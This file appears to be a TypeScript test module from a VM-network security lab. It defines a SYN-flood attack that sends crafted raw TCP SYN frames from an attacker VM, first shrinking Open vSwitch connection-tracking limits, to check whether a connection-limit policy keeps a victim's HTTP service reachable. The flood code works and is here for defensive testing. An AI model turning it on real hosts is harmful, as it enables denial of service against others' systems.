import type { Attack } from '../src/attack.ts';
import { ETHERTYPE, ethernetFrame, ipv4Packet, PROTOCOL } from '../src/frames.ts';
import { type Lab, labState } from '../src/lab.ts';
import { tcpSegment } from '../src/odd-frames.ts';
import { runInHostOk } from '../src/spawn.ts';
import { httpStatus, sendFrames } from '../src/tools.ts';
import { addressOf, type VmSpec } from '../src/vm/spec.ts';
import { waitFor } from '../src/wait.ts';

/** Connections that a host's table has room for beside those that it has; Open vSwitch's own bound is 3,000,000. */
const ROOM = 120;
const ALL_ROOM = 3_000_000;
/** Segments that begin a connection each, sent again and again for as long as others call: a call that fails takes 5 s. */
const SEGMENTS = 240;
const FLOOD = { times: 20, everyS: 2.5 };
const CALLS = 4;
/** So long a flood may take to fill the tables on a busy machine; what is bounded never does. */
const FILL_MS = 25_000;

export const synFlood: Attack = {
  id: 'syn-flood',
  title: 'A VM begins connections that it never goes on with, until the host can remember no others',
  protects: 'limit of new connections',
  needsPolicy: true,
  async run({ lab, cast: { attacker, victim, peer, httpPort }, policy }) {
    const call = () => httpStatus(lab, peer.name, addressOf(victim.ipv4), httpPort);
    try {
      await policy?.bound(attacker.name, [attacker.name, peer.name], victim.name, httpPort);
      const control = (await call()) !== undefined;
      const isFull = await leaveRoom(lab, ROOM);
      let answered = 0;
      const calls = async () => {
        await waitFor('a table is full', isFull, { timeoutMs: FILL_MS, everyMs: 200 }).catch(() => undefined);
        for (let n = 0; n < CALLS; n++) if ((await call()) !== undefined) answered++;
      };
      await Promise.all([calls(), sendFrames(lab, attacker.name, segments(attacker, victim, httpPort), FLOOD)]);
      return {
        succeeded: answered < CALLS / 2,
        control,
        evidence: `${victim.name} answered ${answered} of ${CALLS} calls of ${peer.name} while ${attacker.name} flooded it`,
      };
    } finally {
      await leaveRoom(lab, ALL_ROOM);
      await policy?.revoke();
    }
  },
};

/** From its own address, or they would end at its port; each from another port. */
function segments(from: VmSpec, to: VmSpec, targetPort: number): Buffer[] {
  const link = { from: from.mac, to: to.mac };
  const ends = { source: addressOf(from.ipv4), target: addressOf(to.ipv4) };
  return Array.from({ length: SEGMENTS }, (_, n) => {
    const segment = tcpSegment({ ...ends, sourcePort: 20_000 + n, targetPort, flags: ['syn'], data: '' });
    return ethernetFrame(link, ETHERTYPE.ipv4, ipv4Packet(ends, PROTOCOL.tcp, segment));
  });
}

/**
 * Bounds every host's table of connections, so that a guest of a small lab can fill it. Tells how to ask whether one is full.
 */
async function leaveRoom(lab: Lab, room: number): Promise<() => Promise<boolean>> {
  const bounds = new Map<string, number>();
  const dpctl = (host: string, command: string, ...argv: string[]) =>
    runInHostOk(lab, host, ['ovs-appctl', `dpctl/${command}`, 'netdev@ovs-netdev', ...argv]);
  const present = async (host: string) => Number.parseInt(await dpctl(host, 'ct-get-nconns'), 10);
  for (const host of labState(lab).hosts) {
    bounds.set(host, room === ALL_ROOM ? room : (await present(host)) + room);
    await dpctl(host, 'ct-set-maxconns', String(bounds.get(host)));
  }
  return async () => {
    for (const [host, bound] of bounds) if ((await present(host)) >= bound) return true;
    return false;
  };
}
